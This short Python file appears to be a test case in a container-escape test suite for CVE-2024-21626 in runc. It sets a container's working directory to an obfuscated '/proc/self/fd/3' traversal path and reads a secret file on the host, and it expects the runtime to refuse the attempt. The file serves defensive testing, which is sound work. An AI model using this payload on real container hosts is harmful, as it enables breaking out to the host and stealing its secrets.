"""The same with a path that goes through other directories first."""

from bypass import refused

SOURCE = "CVE-2024-21626"
WAY = "create"
STOPPED = refused("process-cwd")
BARE = {"runc": "corrected in Debian's 1.1.5"}


def attack(t):
    t.leak("/mnt/host")
    t.spec["process"]["cwd"] = "//usr/.././proc//self/fd/3/.."
    return t.leaked(t.run("cat ./host/secret"))
